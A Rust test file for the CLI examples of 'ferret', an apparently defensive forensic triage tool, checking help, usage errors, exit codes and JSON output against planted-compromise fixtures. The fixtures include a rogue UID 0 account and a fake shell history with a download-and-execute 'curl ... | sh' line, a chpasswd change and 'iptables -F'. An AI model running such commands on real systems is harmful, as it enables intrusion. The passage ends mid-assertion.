//! The examples, run as a responder runs them, keep the conventions of `ferret::cli`: `--help`
//! on stdout with exit 0; a usage error names the argument on stderr and exits 2; the common
//! flags mean the same everywhere; a non-UTF-8 path is a path; `--json` prints one document on
//! stdout with the error records inside and nothing on stderr, while text mode sends error
//! records to stderr; and the exit status is the one `cli::Status` gives what was reported.
//!
//! The binaries are the ones `cargo test` builds beside this test (`target/<profile>/examples/`);
//! a missing or stale one fails the test (`cargo test --test examples` alone builds no
//! examples: run `cargo build --examples` first).
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    // f(ixture), s(tring), r(un), v(alue): the tests read as the commands they run.
    clippy::many_single_char_names
)]

mod common;

use ferret::core::escape::{escape, escape_path};
use md5::Digest as _;
use serde_json::Value;
use std::collections::BTreeSet;
use std::ffi::{OsStr, OsString};
use std::fmt::Write as _;
use std::os::unix::ffi::OsStrExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::OnceLock;
use std::time::SystemTime;

/// Every example; checked against `examples/*.rs`, so that a new one cannot go untested.
const EXAMPLES: [&str; 11] = [
    "accounts",
    "authlog",
    "baseline",
    "harden",
    "logins",
    "history",
    "pkgverify",
    "procs",
    "rpmdb",
    "scan",
    "triage",
];

/// The first line of every help's exit-status paragraph.
const EXIT_LINE: &str = "exit status: 0 clean, 1 findings at or above medium, 2 error or bad usage";

fn manifest_dir() -> &'static Path {
    Path::new(env!("CARGO_MANIFEST_DIR"))
}

fn mtime(p: &Path) -> SystemTime {
    std::fs::metadata(p)
        .and_then(|m| m.modified())
        .unwrap_or_else(|e| panic!("{}: {e}", p.display()))
}

/// The newest source file of the facade library (`src/`), which every example links.
fn newest_library_source() -> (SystemTime, PathBuf) {
    static NEWEST: OnceLock<(SystemTime, PathBuf)> = OnceLock::new();
    NEWEST
        .get_or_init(|| {
            let mut newest = (SystemTime::UNIX_EPOCH, PathBuf::new());
            let mut dirs = vec![manifest_dir().join("src")];
            while let Some(d) = dirs.pop() {
                for e in std::fs::read_dir(&d).unwrap() {
                    let p = e.unwrap().path();
                    if p.is_dir() {
                        dirs.push(p);
                    } else if p.extension() == Some(OsStr::new("rs")) && mtime(&p) > newest.0 {
                        newest = (mtime(&p), p);
                    }
                }
            }
            newest
        })
        .clone()
}

/// The example binary `name`, built by cargo beside this test: this test runs from
/// `target/<profile>/deps/`, the examples are in `target/<profile>/examples/`. Fails when it is
/// missing or older than its source or the library's.
fn binary(name: &str) -> PathBuf {
    let exe = std::env::current_exe().unwrap();
    let profile = exe
        .parent()
        .and_then(Path::parent)
        .expect("the test runs from target/<profile>/deps");
    let bin = profile.join("examples").join(name);
    let built = std::fs::metadata(&bin)
        .and_then(|m| m.modified())
        .unwrap_or_else(|e| {
            panic!(
                "example {name}: {}: {e}; `cargo test` builds every example \
                 (`cargo test --test examples` alone does not: run `cargo build --examples` first)",
                bin.display()
            )
        });
    let src = manifest_dir().join("examples").join(format!("{name}.rs"));
    let (lib_time, lib) = newest_library_source();
    for (t, p) in [(mtime(&src), src), (lib_time, lib)] {
        assert!(
            t <= built,
            "example {name}: {} is older than {}: stale; run `cargo build --examples`",
            bin.display(),
            p.display()
        );
    }
    bin
}

struct Run {
    what: String,
    code: i32,
    stdout: Vec<u8>,
    stderr: String,
}

impl Run {
    fn stdout_text(&self) -> &str {
        std::str::from_utf8(&self.stdout)
            .unwrap_or_else(|e| panic!("{}: stdout is not UTF-8: {e}", self.what))
    }

    /// stdout as one JSON document.
    fn json(&self) -> Value {
        serde_json::from_slice(&self.stdout).unwrap_or_else(|e| {
            panic!(
                "{}: stdout is not one JSON document: {e}\n{}",
                self.what,
                String::from_utf8_lossy(&self.stdout)
            )
        })
    }

    fn first_stderr_line(&self) -> &str {
        self.stderr.lines().next().unwrap_or_default()
    }

    /// A usage error: exit 2, nothing on stdout, `first` as the first line of stderr.
    fn assert_usage_error(&self, first: &str) {
        assert_eq!(self.code, 2, "{}: {}", self.what, self.stderr);
        assert!(
            self.stdout.is_empty(),
            "{}: stdout {:?}",
            self.what,
            self.stdout_text()
        );
        assert_eq!(self.first_stderr_line(), first, "{}", self.what);
    }
}

/// Runs `args[0]` with the other arguments in `cwd`, stdin closed.
fn run_in(cwd: &Path, args: &[&OsStr]) -> Run {
    let (name, rest) = args.split_first().unwrap();
    let name = name.to_str().unwrap();
    let what = args
        .iter()
        .map(|a| escape(a.as_bytes()))
        .collect::<Vec<_>>()
        .join(" ");
    let out = Command::new(binary(name))
        .args(rest)
        .current_dir(cwd)
        .stdin(Stdio::null())
        .output()
        .unwrap_or_else(|e| panic!("{what}: {e}"));
    let code = out
        .status
        .code()
        .unwrap_or_else(|| panic!("{what}: ended by a signal ({})", out.status));
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert_ne!(code, 101, "{what} panicked:\n{stderr}");
    Run {
        what,
        code,
        stdout: out.stdout,
        stderr,
    }
}

fn run(args: &[&str]) -> Run {
    let args: Vec<&OsStr> = args.iter().map(OsStr::new).collect();
    run_in(manifest_dir(), &args)
}

fn os(parts: &[&[u8]]) -> OsString {
    OsStr::from_bytes(&parts.concat()).to_owned()
}

/// The commands of an example: itself, or each subcommand its help lists (`  NAME SUB ...`),
/// plus `harden sshd-effective`, which its help names in a note.
fn commands(name: &str) -> Vec<Vec<String>> {
    let help = run(&[name, "--help"]);
    let prefix = format!("  {name} ");
    let subs: BTreeSet<String> = help
        .stdout_text()
        .lines()
        .filter_map(|l| l.strip_prefix(&prefix))
        .filter_map(|rest| rest.split_whitespace().next().map(str::to_owned))
        .collect();
    let mut cmds: Vec<Vec<String>> = subs.into_iter().map(|s| vec![name.to_owned(), s]).collect();
    if cmds.is_empty() {
        cmds.push(vec![name.to_owned()]);
    }
    if name == "harden" {
        cmds.push(vec![name.to_owned(), "sshd-effective".to_owned()]);
    }
    cmds
}

fn all_commands() -> Vec<Vec<String>> {
    EXAMPLES.iter().flat_map(|e| commands(e)).collect()
}

#[test]
fn every_example_is_covered() {
    let on_disk: BTreeSet<String> = std::fs::read_dir(manifest_dir().join("examples"))
        .unwrap()
        .filter_map(|e| {
            let p = e.unwrap().path();
            (p.extension() == Some(OsStr::new("rs")))
                .then(|| p.file_stem().unwrap().to_str().unwrap().to_owned())
        })
        .collect();
    let listed: BTreeSet<String> = EXAMPLES.iter().map(|s| (*s).to_owned()).collect();
    assert_eq!(on_disk, listed);
}

#[test]
fn help_goes_to_stdout_with_exit_0() {
    let mut seen = 0;
    for name in EXAMPLES {
        let mut cmds = vec![vec![name.to_owned()]];
        cmds.extend(commands(name).into_iter().filter(|c| c.len() > 1));
        for cmd in cmds {
            let shown = cmd.join(" ");
            let mut args: Vec<&str> = cmd.iter().map(String::as_str).collect();
            args.push("--help");
            let long = run(&args);
            assert_eq!(long.code, 0, "{}: {}", long.what, long.stderr);
            assert_eq!(long.stderr, "", "{}", long.what);
            let text = long.stdout_text();
            assert!(
                text.starts_with(&format!("{shown}: ")),
                "{}: {text}",
                long.what
            );
            assert!(text.contains("usage:"), "{}: {text}", long.what);
            assert!(text.contains(EXIT_LINE), "{}: {text}", long.what);
            for line in text.lines() {
                assert!(
                    line.chars().count() <= 100,
                    "{}: long line {line:?}",
                    long.what
                );
            }
            args.pop();
            args.push("-h");
            let short = run(&args);
            assert_eq!(
                (short.code, &short.stdout, &short.stderr),
                (0, &long.stdout, &long.stderr),
                "{}",
                short.what
            );
            seen += 1;
        }
    }
    // 11 examples, plus the subcommands of accounts (4), baseline (3), procs (7), harden (1) and
    // logins (5).
    assert_eq!(seen, 11 + 4 + 3 + 7 + 1 + 5);
}

#[test]
fn usage_errors_name_the_argument_and_exit_2() {
    for cmd in all_commands() {
        let shown = cmd.join(" ");
        let mut args: Vec<&str> = cmd.iter().map(String::as_str).collect();
        args.push("--no-such-flag");
        run(&args).assert_usage_error(&format!("{shown}: --no-such-flag: unknown flag"));
    }
    // The issue's example, word for word.
    run(&["authlog", "--year", "abc", "x.log"])
        .assert_usage_error(r#"authlog: --year: invalid value "abc": expected a year like 2024"#);
    // A program of subcommands needs one; each subcommand takes only its own flags.
    for tool in ["accounts", "baseline", "procs", "logins"] {
        let r = run(&[tool]);
        assert_eq!(r.code, 2, "{}", r.what);
        assert!(
            r.first_stderr_line()
                .starts_with(&format!("{tool}: expected a subcommand: ")),
            "{}: {}",
            r.what,
            r.stderr
        );
        let r = run(&[tool, "nope"]);
        assert_eq!((r.code, r.stdout.is_empty()), (2, true), "{}", r.what);
        assert!(
            r.first_stderr_line().starts_with(&format!(
                r#"{tool}: "nope": unknown subcommand; expected a subcommand: "#
            )),
            "{}: {}",
            r.what,
            r.stderr
        );
    }
    run(&["baseline", "check", "--hash", "blake3", "db"])
        .assert_usage_error("baseline check: --hash: unknown flag");
    run(&["baseline", "export", "--fast", "db"])
        .assert_usage_error("baseline export: --fast: unknown flag");
    run(&["accounts", "list", "--no-home"])
        .assert_usage_error("accounts list: --no-home: unknown flag");
    // `--threads` became `--jobs`.
    run(&["pkgverify", "--threads", "2"]).assert_usage_error("pkgverify: --threads: unknown flag");
    run(&["baseline", "check", "--threads", "2", "db"])
        .assert_usage_error("baseline check: --threads: unknown flag");
    // A switch takes no value; a value flag needs one; missing operands are named.
    run(&["harden", "--json=yes"])
        .assert_usage_error(r#"harden: --json: takes no value (given "yes")"#);
    run(&["triage", "--budget"]).assert_usage_error("triage: --budget: missing value (SECONDS)");
    run(&["triage", "--key-file", "k"]).assert_usage_error("triage: --key-file: needs --baseline");
    run(&["authlog"]).assert_usage_error(
        "authlog: FILE: missing: name at least one log file, journal directory or -",
    );
    run(&["baseline", "init", "/etc"])
        .assert_usage_error("baseline init: -o: missing: the baseline's output file");
    run(&["triage", "extra"]).assert_usage_error(r#"triage: "extra": unexpected argument"#);
}

#[test]
fn common_flags_mean_the_same_everywhere() {
    let mut checked = BTreeSet::new();
    for cmd in all_commands() {
        let shown = cmd.join(" ");
        let mut help_args: Vec<&str> = cmd.iter().map(String::as_str).collect();
        help_args.push("--help");
        let help = run(&help_args).stdout_text().to_owned();
        let has = |flag: &str| help.lines().any(|l| l.trim_start().starts_with(flag));
        let base: Vec<&OsStr> = cmd.iter().map(OsStr::new).collect();
        if has("--jobs N") {
            let mut a = base.clone();
            a.extend([OsStr::new("--jobs"), OsStr::new("0")]);
            run_in(manifest_dir(), &a).assert_usage_error(&format!(
                r#"{shown}: --jobs: invalid value "0": expected a number of threads, 1 or more"#
            ));
            checked.insert("--jobs");
        }
        if has("--io-limit BYTES_PER_SEC") {
            let mut a = base.clone();
            a.extend([OsStr::new("--io-limit"), OsStr::new("fast")]);
            run_in(manifest_dir(), &a).assert_usage_error(&format!(
                r#"{shown}: --io-limit: invalid value "fast": expected a number of bytes per second"#
            ));
            checked.insert("--io-limit");
        }
        if has("--root DIR") {
            // A root that does not exist, named (escaped) after the flag.
            let missing = os(&[b"/nonexistent-ferret-root-\xff"]);
            let mut a = base.clone();
            a.extend([OsStr::new("--root"), missing.as_os_str()]);
            let r = run_in(manifest_dir(), &a);
            assert_eq!(r.code, 2, "{}", r.what);
            assert!(r.stdout.is_empty(), "{}", r.what);
            assert!(
                r.first_stderr_line().starts_with(&format!(
                    r"{shown}: --root: /nonexistent-ferret-root-\xff: "
                )),
                "{}: {}",
                r.what,
                r.stderr
            );
            checked.insert("--root");
        }
        if has("--budget SECONDS") {
            // One default, stated the same way everywhere, and one validation.
            assert!(
                help.contains("(default 600; 0: no limit)"),
                "{shown}: --budget described differently:\n{help}"
            );
            let mut a = base.clone();
            a.extend([OsStr::new("--budget"), OsStr::new("-1")]);
            run_in(manifest_dir(), &a).assert_usage_error(&format!(
                r#"{shown}: --budget: invalid value "-1": expected a number of seconds, 0 or more"#
            ));
            checked.insert("--budget");
        }
        for flag in ["--json", "--jsonl"] {
            if has(&format!("{flag} ")) {
                assert!(
                    help.contains(match flag {
                        "--json" => "print one JSON document on stdout (error records included)",
                        _ => "print one JSON object per finding and line on stdout",
                    }),
                    "{shown}: {flag} described differently:\n{help}"
                );
                checked.insert(flag);
            }
        }
    }
    assert_eq!(
        checked,
        BTreeSet::from([
            "--budget",
            "--io-limit",
            "--jobs",
            "--json",
            "--jsonl",
            "--root"
        ])
    );
}

/// The exit status `ferret::cli::Status` gives a document with `findings` and `errors`.
fn status_of(v: &Value) -> i32 {
    let medium = v["findings"].as_array().is_some_and(|fs| {
        fs.iter()
            .any(|f| matches!(f["severity"].as_str(), Some("medium" | "high" | "critical")))
    });
    let errors = v["errors"].as_array().is_some_and(|e| !e.is_empty());
    if medium {
        1
    } else if errors {
        2
    } else {
        0
    }
}

/// A JSON run: one document on stdout, nothing on stderr; returns the document.
fn json_run(r: &Run) -> Value {
    assert_eq!(r.stderr, "", "{}: stderr in JSON mode", r.what);
    let v = r.json();
    assert!(
        v.get("errors").is_some_and(Value::is_array),
        "{}: no errors array in {v}",
        r.what
    );
    v
}

fn hex(d: &[u8]) -> String {
    d.iter().fold(String::new(), |mut s, b| {
        write!(s, "{b:02x}").unwrap();
        s
    })
}

/// A dpkg database for the fixture root: one package owning `/usr/bin/ls` (intact) and
/// `/usr/bin/ps` (changed after installation), with one malformed md5sums line.
fn dpkg(root: &Path) {
    let md5 = |p: &str| hex(&md5::Md5::digest(std::fs::read(root.join(p)).unwrap()));
    let sums = format!(
        "{}  usr/bin/ls\nnot a line\n{}  usr/bin/ps\n",
        md5("usr/bin/ls"),
        hex(&md5::Md5::digest(b"the ps that was installed"))
    );
    common::write(root, "var/lib/dpkg/info/procps.md5sums", sums);
    common::write(
        root,
        "var/lib/dpkg/info/procps.list",
        "/usr/bin/ls\n/usr/bin/ps\n",
    );
    common::write(
        root,
        "var/lib/dpkg/status",
        "Package: procps\nStatus: install ok installed\nVersion: 1\nArchitecture: amd64\n\n",
    );
}

struct Fixture {
    _t: tempfile::TempDir,
    /// A clean root, at `clean` (a UTF-8 path).
    clean: PathBuf,
    /// The planted root, at a path with a byte that is not UTF-8.
    planted: PathBuf,
    /// Scratch space, also behind a non-UTF-8 name.
    scratch: PathBuf,
}

fn fixture() -> Fixture {
    let t = tempfile::tempdir().unwrap();
    let clean = t.path().join("clean");
    let planted = t.path().join(os(&[b"planted-\xff"]));
    let scratch = t.path().join(os(&[b"out-\xfe"]));
    for (root, plant) in [(&clean, false), (&planted, true)] {
        std::fs::create_dir(root).unwrap();
        common::clean_root(root);
        if plant {
            common::plant(root);
        }
        dpkg(root);
    }
    std::fs::create_dir(&scratch).unwrap();
    Fixture {
        _t: t,
        clean,
        planted,
        scratch,
    }
}

fn args<'a>(parts: &'a [&'a OsStr]) -> &'a [&'a OsStr] {
    parts
}

#[test]
fn json_on_a_root_whose_path_is_not_utf8() {
    let f = fixture();
    let root = f.planted.as_os_str();
    let here = f.scratch.as_path();
    let s = |x: &'static str| OsStr::new(x);

    // triage: the report names the root as it is (escaped), and the status follows the report.
    let r = run_in(here, args(&[s("triage"), s("--root"), root, s("--json")]));
    let v = json_run(&r);
    assert_eq!(
        v["host"]["root"],
        escape_path(&f.planted.canonicalize().unwrap())
    );
    let failed = v["modules"]
        .as_array()
        .unwrap()
        .iter()
        .any(|m| m["status"] == "failed");
    let expected = if failed { 2 } else { status_of(&v) };
    assert_eq!(r.code, expected, "{}", r.what);
    assert_eq!(r.code, 1, "planted problems at or above medium: {v}");
    let lines = run_in(here, args(&[s("triage"), s("--root"), root, s("--jsonl")]));
    assert_eq!(lines.stderr, "", "{}", lines.what);
    assert_eq!(lines.code, r.code, "{}", lines.what);
    let objects: Vec<Value> = lines
        .stdout_text()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(objects.len(), v["findings"].as_array().unwrap().len());

    // accounts: audit finds the planted UID 0; list shows it; diff against the backups and
    // between two roots (the new one behind the non-UTF-8 path) reports it as added.
    let audit = run_in(
        here,
        args(&[s("accounts"), s("audit"), s("--root"), root, s("--json")]),
    );
    let v = json_run(&audit);
    assert_eq!(audit.code, status_of(&v), "{}", audit.what);
    assert_eq!(audit.code, 1, "{v}");
    let list = run_in(
        here,
        args(&[s("accounts"), s("list"), s("--root"), root, s("--json")]),
    );
    let v = json_run(&list);
    assert!(
        v["users"]
            .as_array()
            .unwrap()
            .iter()
            .any(|u| u["name"] == "toor"),
        "{v}"
    );
    assert_eq!(list.code, status_of(&v), "{}", list.what);
    for diff in [
        run_in(
            here,
            args(&[s("accounts"), s("diff"), s("--root"), root, s("--json")]),
        ),
        run_in(
            here,
            args(&[
                s("accounts"),
                s("diff"),
                s("--json"),
                f.clean.as_os_str(),
                root,
            ]),
        ),
    ] {
        let v = json_run(&diff);
        assert_eq!(diff.code, status_of(&v), "{}", diff.what);
        assert!(
            v["findings"]
                .as_array()
                .unwrap()
                .iter()
                .any(|x| x["subject"].as_str().is_some_and(|s| s.contains("toor"))),
            "{}: {v}",
            diff.what
        );
    }

    // harden: the planted sshd and persistence problems; sshd-effective reads the config
    // inside the root.
    let h = run_in(here, args(&[s("harden"), s("--root"), root, s("--json")]));
    let v = json_run(&h);
    assert_eq!(h.code, status_of(&v), "{}", h.what);
    assert_eq!(h.code, 1, "{v}");
    let eff = run_in(
        here,
        args(&[s("harden"), s("sshd-effective"), s("--root"), root]),
    );
    assert!(
        eff.stdout_text()
            .lines()
            .any(|l| l == "permitrootlogin yes"),
        "{}",
        eff.what
    );
    assert_eq!(
        eff.code,
        if eff.stderr.is_empty() { 0 } else { 2 },
        "{}",
        eff.what
    );

    // pkgverify: the changed file is a finding, the malformed line an error inside the JSON.
    let p = run_in(
        here,
        args(&[s("pkgverify"), s("--root"), root, s("--json")]),
    );
    let v = json_run(&p);
    assert!(v["files"].as_u64().unwrap() >= 1, "{v}");
    assert_eq!(v["errors"].as_array().unwrap().len(), 1, "{v}");
    assert_eq!(p.code, status_of(&v), "{}", p.what);

    // authlog: a log behind a non-UTF-8 name; every line is read.
    let log = f.scratch.join(os(&[b"auth-\xff.log"]));
    std::fs::copy(f.planted.join("var/log/auth.log"), &log).unwrap();
    let want = std::fs::read_to_string(&log).unwrap().lines().count();
    let a = run_in(here, args(&[s("authlog"), s("--json"), log.as_os_str()]));
    let v = json_run(&a);
    assert_eq!(v["lines"].as_u64(), Some(want as u64), "{v}");
    assert_eq!(a.code, status_of(&v), "{}", a.what);
    assert_eq!(a.code, 1, "a brute force then a login: {v}");

    // baseline: init into a non-UTF-8 file name from a non-UTF-8 root, check (clean, then
    // after a change), export for sha256sum, which verifies the files itself.
    let db = f.scratch.join(os(&[b"base-\xff.db"]));
    let init = run_in(
        here,
        args(&[
            s("baseline"),
            s("init"),
            s("--hash"),
            s("both"),
            s("--root"),
            root,
            s("-o"),
            db.as_os_str(),
            s("/etc"),
            s("/usr"),
        ]),
    );
    assert_eq!(init.code, 0, "{}: {}", init.what, init.stderr);
    assert!(init.stdout.is_empty(), "{}", init.what);
    assert!(
        init.stderr.starts_with("baseline: "),
        "{}: {}",
        init.what,
        init.stderr
    );
    let check = || {
        run_in(
            here,
            args(&[s("baseline"), s("check"), s("--json"), db.as_os_str()]),
        )
    };
    let c = check();
    let v = json_run(&c);
    assert_eq!(c.code, 0, "{}: {v}", c.what);
    common::write(&f.planted, "etc/hostname", "somewhere-else\n");
    let c = check();
    let v = json_run(&c);
    assert_eq!(v["changed"].as_array().unwrap().len(), 1, "{v}");
    assert_eq!(c.code, 1, "{}: {v}", c.what);
    let e = run_in(
        here,
        args(&[
            s("baseline"),
            s("export"),
            s("--format"),
            s("sha256sum"),
            db.as_os_str(),
        ]),
    );
    assert_eq!(e.code, 0, "{}: {}", e.what, e.stderr);
    let manifest = f.scratch.join("manifest");
    std::fs::write(&manifest, &e.stdout).unwrap();
    assert!(e.stdout.split(|&b| b == b'\n').count() > 3, "{}", e.what);
    let sha = Command::new("sha256sum")
        .arg("-c")
        .arg(&manifest)
        .current_dir("/")
        .output()
        .unwrap();
    // The one line that fails is the file changed after init.
    let failed: Vec<&[u8]> = sha
        .stdout
        .split(|&b| b == b'\n')
        .filter(|l| l.ends_with(b": FAILED"))
        .collect();
    assert_eq!(failed.len(), 1, "{}", String::from_utf8_lossy(&sha.stdout));
    assert!(failed[0].ends_with(b"/etc/hostname: FAILED"));

    // logins: the planted root's wiped wtmp record is a finding; the listings read the same
    // files, carry their errors in the document, and find nothing to exit 1 for.
    let c = run_in(
        here,
        args(&[s("logins"), s("check"), s("--root"), root, s("--json")]),
    );
    let v = json_run(&c);
    assert_eq!(c.code, status_of(&v), "{}", c.what);
    assert_eq!(c.code, 1, "{v}");
    let ids: Vec<&str> = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|f| f["id"].as_str())
        .collect();
    assert!(ids.contains(&"logins.zeroed-records"), "{v}");
    assert!(ids.contains(&"logs.login-after-failures"), "{v}");
    let jl = run_in(
        here,
        args(&[s("logins"), s("check"), s("--root"), root, s("--jsonl")]),
    );
    assert_eq!((jl.code, jl.stderr.as_str()), (1, ""), "{}", jl.what);
    assert_eq!(jl.stdout_text().lines().count(), ids.len());
    let sessions_run = run_in(
        here,
        args(&[s("logins"), s("last"), s("--root"), root, s("--json")]),
    );
    let v = json_run(&sessions_run);
    assert_eq!(sessions_run.code, 0, "{}", sessions_run.what);
    let sessions = v["files"][0]["sessions"].as_array().unwrap();
    let users: Vec<&str> = sessions
        .iter()
        .filter_map(|x| x["start"]["user"].as_str())
        .collect();
    assert_eq!(users, ["root", "alice", "reboot"], "{v}");
    let text = run_in(
        here,
        args(&[s("logins"), s("last"), s("--root"), root, s("--utc")]),
    );
    assert_eq!((text.code, text.stderr.as_str()), (0, ""), "{}", text.what);
    let out = text.stdout_text();
    assert!(
        out.starts_with("root     pts/1        203.0.113.5"),
        "{out}"
    );
    assert!(
        out.ends_with("\nwtmp begins 2026-11-19T08:00:01+00:00\n"),
        "{out}"
    );
    let failed = run_in(
        here,
        args(&[s("logins"), s("failed"), s("--root"), root, s("--json")]),
    );
    let v = json_run(&failed);
    assert_eq!(v["missing"], serde_json::json!(["/var/log/btmp"]));
    assert_eq!(failed.code, 0, "{}", failed.what);
    let ll = run_in(
        here,
        args(&[s("logins"), s("lastlog"), s("--root"), root, s("--utc")]),
    );
    assert!(
        ll.stdout_text()
            .lines()
            .any(|l| l.starts_with("alice            pts/0    198.51.100.7")),
        "{}",
        ll.stdout_text()
    );

    // procs is live only: its JSON still carries the errors.
    let l = run_in(here, args(&[s("procs"), s("list"), s("--json")]));
    let v = json_run(&l);
    assert!(!v["processes"].as_array().unwrap().is_empty(), "{v}");
    assert_eq!(l.code, status_of(&v), "{}", l.what);
    // A non-UTF-8 value where a number is expected is named, escaped.
    run_in(
        here,
        args(&[s("procs"), s("sockets"), s("--port"), &os(&[b"\xff"])]),
    )
    .assert_usage_error(r#"procs sockets: --port: invalid value "\xff": expected a port number"#);
}

#[test]
fn text_mode_findings_on_stdout_errors_on_stderr() {
    let f = fixture();
    let root = f.planted.as_os_str();
    let here = f.scratch.as_path();
    let s = |x: &'static str| OsStr::new(x);

    // pkgverify: the malformed md5sums line is an error record: on stderr in text mode.
    let p = run_in(here, args(&[s("pkgverify"), s("--root"), root]));
    let errors: Vec<&str> = p.stderr.lines().collect();
    assert_eq!(errors.len(), 1, "{}: {}", p.what, p.stderr);
    assert!(
        errors[0].starts_with("error: /var/lib/dpkg/info/procps.md5sums"),
        "{}",
        p.stderr
    );
    assert!(
        !p.stdout_text().lines().any(|l| l.starts_with("error")),
        "{}",
        p.stdout_text()
    );
    let json = json_run(&run_in(
        here,
        args(&[s("pkgverify"), s("--root"), root, s("--json")]),
    ));
    assert_eq!(p.code, status_of(&json), "{}", p.what);

    // authlog: a missing file is an error record on stderr; the findings of the file that
    // was read are on stdout, and win the exit status.
    let missing = f.scratch.join(os(&[b"gone-\xff.log"]));
    let logs = [
        f.planted.join("var/log/auth.log").into_os_string(),
        missing.clone().into_os_string(),
    ];
    let a = run_in(here, args(&[s("authlog"), &logs[0], &logs[1]]));
    assert_eq!(
        a.stderr.trim_end(),
        format!(
            "error: {}: No such file or directory (os error 2)",
            escape_path(&missing)
        ),
        "{}",
        a.what
    );
    assert!(a.stdout_text().contains("[high]") || a.stdout_text().contains("[critical]"));
    assert_eq!(a.code, 1, "{}", a.what);
    let j = run_in(here, args(&[s("authlog"), s("--json"), &logs[0], &logs[1]]));
    let v = json_run(&j);
    assert_eq!(v["errors"].as_array().unwrap().len(), 1, "{v}");
    assert_eq!(j.code, 1, "{}", j.what);
    // Errors alone, with nothing at or above medium: exit 2.
    let only = run_in(here, args(&[s("authlog"), missing.as_os_str()]));
    assert_eq!(only.code, 2, "{}", only.what);
    assert!(only.stderr.starts_with("error: "), "{}", only.stderr);

    // triage: the report on stdout, its error records on stderr (the same ones as in JSON).
    let t = run_in(
        here,
        args(&[s("triage"), s("--root"), root, s("--only"), s("packages")]),
    );
    let v = json_run(&run_in(
        here,
        args(&[
            s("triage"),
            s("--root"),
            root,
            s("--only"),
            s("packages"),
            s("--json"),
        ]),
    ));
    // As `ModuleError` and `ErrorRecord` display: `[module] path:line: message`.
    let want: Vec<String> = v["errors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| {
            let mut line = format!("error: [{}] ", e["module"].as_str().unwrap());
            if let Some(p) = e["path"].as_str() {
                line.push_str(p);
                if let Some(n) = e["line"].as_u64() {
                    write!(line, ":{n}").unwrap();
                }
                line.push_str(": ");
            }
            line.push_str(e["message"].as_str().unwrap());
            line
        })
        .collect();
    assert!(
        !want.is_empty(),
        "the malformed md5sums line is an error: {v}"
    );
    assert_eq!(t.stderr.lines().collect::<Vec<_>>(), want, "{}", t.what);
    assert!(
        t.stdout_text().starts_with("ferret triage of "),
        "{}",
        t.what
    );
    assert!(
        !t.stdout_text().contains("== ERRORS"),
        "{}",
        t.stdout_text()
    );
    assert_eq!(t.code, status_of(&v), "{}", t.what);
}

#[test]
fn pkgverify_on_an_rpm_root_prints_rpm_va_lines_and_one_json_shape() {
    const SPEC: &str = r"Name: ex-demo
Version: 2
Release: 1
Summary: examples fixture
License: MIT
BuildArch: noarch
%description
examples fixture
%install
mkdir -p %{buildroot}/usr/bin %{buildroot}/etc/ex
printf '#!/bin/sh\necho ex\n' > %{buildroot}/usr/bin/ex
printf 'k=v\n' > %{buildroot}/etc/ex/ex.conf
printf 'doc\n' > %{buildroot}/etc/ex/gone
%files
%attr(0755,root,root) /usr/bin/ex
%config(noreplace) /etc/ex/ex.conf
/etc/ex/gone
";
    let s = |x: &'static str| OsStr::new(x);
    let work = tempfile::tempdir().unwrap();
    let root = work.path().join("root");
    std::fs::create_dir(&root).unwrap();
    ferret_testkit::rpm::install(work.path(), &root, SPEC);
    std::fs::write(root.join("usr/bin/ex"), "#!/bin/sh\necho pwned\n").unwrap();
    std::fs::write(root.join("etc/ex/ex.conf"), "k=w\n").unwrap();
    std::fs::remove_file(root.join("etc/ex/gone")).unwrap();
    let want = ferret_testkit::rpm::verify_all(&root);
    assert_eq!(want.len(), 3, "{want:?}");
    let r = root.as_os_str();

    // --rpm-lines: rpm -Va's lines; by rpm name too.
    for pkg in [None, Some("ex-demo"), Some("ex-demo-2-1.noarch")] {
        let mut a = vec![s("pkgverify"), s("--root"), r, s("--rpm-lines")];
        if let Some(p) = pkg {
            a.extend([s("--package"), s(p)]);
        }
        let p = run_in(manifest_dir(), &a);
        let mut got: Vec<String> = p.stdout_text().lines().map(str::to_owned).collect();
        got.sort();
        assert_eq!(got, want, "{}", p.what);
        assert_eq!(p.code, 1, "{}: {}", p.what, p.stderr);
    }
    // --json: the same keys as for dpkg, the rpm database named, the problems listed.
    let p = run_in(
        manifest_dir(),
        &[s("pkgverify"), s("--root"), r, s("--json")],
    );
    let v = json_run(&p);
    assert_eq!(v["packages"].as_u64(), Some(1), "{v}");
    assert_eq!(v["databases"][0]["manager"].as_str(), Some("rpm"), "{v}");
    assert_eq!(v["problems"].as_array().map(Vec::len), Some(3), "{v}");
    let ids: Vec<&str> = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|f| f["id"].as_str())
        .collect();
    for id in [
        "pkg.binary-changed",
        "pkg.conffile-changed",
        "pkg.file-missing",
    ] {
        assert!(ids.contains(&id), "{id} in {ids:?}");
    }
    assert_eq!(p.code, status_of(&v), "{}", p.what);
    // --manager dpkg on an rpm-only root: nothing verified, exit 2.
    let p = run_in(
        manifest_dir(),
        &[s("pkgverify"), s("--root"), r, s("--manager"), s("dpkg")],
    );
    assert_eq!(p.code, 2, "{}: {}", p.what, p.stderr);
    assert!(p.stderr.contains("no dpkg database"), "{}", p.stderr);
}

#[test]
fn history_lists_classified_commands_per_user() {
    let t = tempfile::tempdir().unwrap();
    let r = t.path();
    let put = |rel: &str, data: &str| {
        let p = r.join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, data).unwrap();
    };
    put(
        "etc/passwd",
        "root:x:0:0::/root:/bin/bash\nann:x:1000:1000::/home/ann:/bin/bash\n",
    );
    put(
        "home/ann/.bash_history",
        "ls\ncurl -s http://203.0.113.9/x.sh | sh\necho 'ann:S3cret' | chpasswd\n",
    );
    put("root/.zsh_history", ": 1700000000:0;iptables -F\n");
    let root = r.as_os_str();
    let j = run_in(
        manifest_dir(),
        &[
            OsStr::new("history"),
            OsStr::new("--root"),
            root,
            OsStr::new("--json"),
        ],
    );
    assert_eq!(j.code, 1, "{}", j.stderr);
    let v = j.json();
    let ids: Vec<(&str, &str)> = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| (f["id"].as_str().unwrap(), f["subject"].as_str().unwrap()))
        .collect();
    assert!(
        ids.contains(&("history.download-execute", "ann")),
        "{ids:?}"
    );
    assert!(
